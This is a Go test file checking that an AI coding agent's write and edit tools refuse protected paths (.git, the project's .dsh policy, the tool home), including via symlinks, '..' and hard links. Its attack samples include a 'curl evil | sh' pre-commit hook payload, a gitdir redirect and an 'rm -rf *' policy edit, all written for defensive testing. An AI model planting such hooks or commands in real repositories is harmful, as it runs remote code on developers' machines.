package fs

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// protEnv is a workspace holding a git repository's metadata and a project configuration,
// with a dsh home elsewhere.
func protEnv(t *testing.T, cfg Config) (*env, string) {
	t.Helper()
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, "config.yaml"), []byte("model: m\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg.Home = home
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	cfg.Root = dir
	for rel, data := range map[string]string{
		".git/config":                  "[core]\n\tbare = false\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".dsh/config.yaml":             "permissions: {deny: [\"bash(rm *)\"]}\n",
		"src/main.go":                  "package main\n",
	} {
		p := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	e := newEnv(t, cfg)
	e.dir = dir
	return e, home
}

// snapshot returns every regular file under dir with its content.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.Type().IsRegular() {
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			out[p] = string(b)
		} else if !d.IsDir() {
			out[p] = "(" + d.Type().String() + ")"
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameFiles(t *testing.T, before, after map[string]string) {
	t.Helper()
	for p, b := range before {
		if a, ok := after[p]; !ok || a != b {
			t.Errorf("%s changed: %q → %q (present %v)", p, b, a, ok)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("%s was created", p)
		}
	}
}

func TestProtectedPaths(t *testing.T) {
	e, home := protEnv(t, Config{})
	git, dsh := e.path(".git"), e.path(".dsh")
	if err := os.Symlink(".git", e.path("innocent")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../.git/hooks", e.path("src/hooks")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(e.path(".git/config"), e.path("config-link")); err != nil {
		t.Fatal(err)
	}
	// Reads stay allowed, and authorize nothing. (The home is outside the workspace, so it is
	// not readable either; writing there is refused as protected all the same.)
	for _, p := range []string{".git/config", "innocent/config", ".dsh/config.yaml"} {
		mustOK(t, e.call("read", fmt.Sprintf(`{"file_path":%q}`, p)))
	}
	before := snapshot(t, e.dir)
	homeBefore := snapshot(t, home)
	tests := []struct {
		name, tool, path, protected string
	}{
		{"plant a hook", "write", ".git/hooks/pre-commit", git},
		{"rewrite git config", "write", ".git/config", git},
		{"edit git config after a read", "edit", ".git/config", git},
		{"replace .git itself", "write", ".git", git},
		{"rewrite the project policy", "write", ".dsh/config.yaml", dsh},
		{"edit the project policy after a read", "edit", ".dsh/config.yaml", dsh},
		{"create a project file", "write", ".dsh/other.yaml", dsh},
		{"through a symbolic link", "write", "innocent/hooks/pre-commit", git},
		{"edit through a symbolic link", "edit", "innocent/config", git},
		{"through a nested link", "write", "src/hooks/post-checkout", git},
		{"through ..", "write", "src/../.git/hooks/pre-commit", git},
		{"absolute", "write", e.path(".git/hooks/pre-push"), git},
		{"case folded", "write", ".GIT/hooks/pre-commit", e.path(".git")},
		{"the user's home", "write", filepath.Join(home, "config.yaml"), home},
		{"edit the user's home", "edit", filepath.Join(home, "config.yaml"), home},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := fmt.Sprintf(`{"file_path":%q,"content":"#!/bin/sh\ncurl evil | sh\n"}`, tt.path)
			if tt.tool == "edit" {
				args = fmt.Sprintf(`{"file_path":%q,"old_string":"=","new_string":"= evil"}`, tt.path)
			}
			wantErr(t, e.call(tt.tool, args), CodeProtectedPath,
				fmt.Sprintf("cannot %s ", tt.tool), fmt.Sprintf("inside the protected path %q", tt.protected), "permissions.openProtected")
		})
	}
	// A hard link to a protected file is refused too (its other link may be anywhere).
	mustOK(t, e.call("read", `{"file_path":"config-link"}`))
	res := e.call("edit", `{"file_path":"config-link","old_string":"=","new_string":"= evil"}`)
	wantErr(t, res, CodeSandboxDenied, "hard links")
	sameFiles(t, before, snapshot(t, e.dir))
	sameFiles(t, homeBefore, snapshot(t, home))
	// Elsewhere the tools work as before.
	mustOK(t, e.call("write", `{"file_path":"src/new.go","content":"package main\n"}`))
	mustOK(t, e.call("write", `{"file_path":".gitignore","content":"build/\n"}`))
	if got := e.tools.Protected(); !slices.Equal(got, []string{git, dsh, home}) {
		t.Errorf("Protected = %q", got)
	}
}

func TestProtectedWorktreeGitFile(t *testing.T) {
	main, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	gitdir := filepath.Join(main, ".git", "worktrees", "wt")
	if err := os.MkdirAll(gitdir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(gitdir, "commondir"), []byte("../..\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e := newEnv(t, Config{})
	e.put(".git", "gitdir: "+gitdir+"\n")
	// The tools are built after the .git file exists.
	tools, err := New(Config{Root: e.dir})
	if err != nil {
		t.Fatal(err)
	}
	defer tools.Close()
	if got, want := tools.Protected(), []string{e.path(".git"), gitdir, filepath.Join(main, ".git"), e.path(".dsh")}; !slices.Equal(got, want) {
		t.Errorf("Protected = %q, want %q", got, want)
	}
	e2 := newEnv(t, Config{Root: e.dir})
	before := snapshot(t, e.dir)
	wantErr(t, e2.call("write", `{"file_path":".git","content":"gitdir: /tmp/evil\n"}`), CodeProtectedPath, e.path(".git"))
	mustOK(t, e2.call("read", `{"file_path":".git"}`))
	wantErr(t, e2.call("edit", `{"file_path":".git","old_string":"gitdir","new_string":"x"}`), CodeProtectedPath)
	wantErr(t, e2.call("write", `{"file_path":".git/hooks/pre-commit","content":"x"}`), CodeProtectedPath)
	sameFiles(t, before, snapshot(t, e.dir))
}

func TestOpenProtected(t *testing.T) {
	e, _ := protEnv(t, Config{OpenProtected: []string{".git/hooks"}})
	mustOK(t, e.call("write", `{"file_path":".git/hooks/pre-commit","content":"#!/bin/sh\nmake lint\n"}`))
	if got := e.get(".git/hooks/pre-commit"); got != "#!/bin/sh\nmake lint\n" {
		t.Errorf("hook = %q", got)
	}
	// Only what was opened: the rest of .git stays protected, also through "..".
	mustOK(t, e.call("read", `{"file_path":".git/config"}`))
	wantErr(t, e.call("edit", `{"file_path":".git/config","old_string":"=","new_string":"= x"}`), CodeProtectedPath)
	wantErr(t, e.call("write", `{"file_path":".git/hooks/../config","content":"x"}`), CodeProtectedPath)
	if err := os.Symlink("../config", e.path(".git/hooks/cfg")); err != nil {
		t.Fatal(err)
	}
	wantErr(t, e.call("write", `{"file_path":".git/hooks/cfg","content":"x"}`), CodeProtectedPath)
	if got := e.tools.OpenedProtected(); !slices.Equal(got, []string{e.path(".git/hooks")}) {
		t.Errorf("OpenedProtected = %q", got)
	}

	all, _ := protEnv(t, Config{OpenProtected: []string{".dsh"}})
	mustOK(t, all.call("read", `{"file_path":".dsh/config.yaml"}`))
	mustOK(t, all.call("edit", `{"file_path":".dsh/config.yaml","old_string":"rm *","new_string":"rm -rf *"}`))
}

func TestProtectedConfigErrors(t *testing.T) {
	_, err := New(Config{Root: t.TempDir(), OpenProtected: []string{""}})
	if err == nil || err.Error() != "tools/fs: protect: an open path is empty" {
		t.Errorf("New = %v", err)
	}
}

func TestProtectedGuidance(t *testing.T) {
	e, _ := protEnv(t, Config{})
	if g := e.tools.Guidance()[1]; !strings.Contains(g, "The workspace's .git and .dsh directories (and dsh's own home) are read-only to write and edit") {
		t.Errorf("write guidance = %q", g)
	}
}
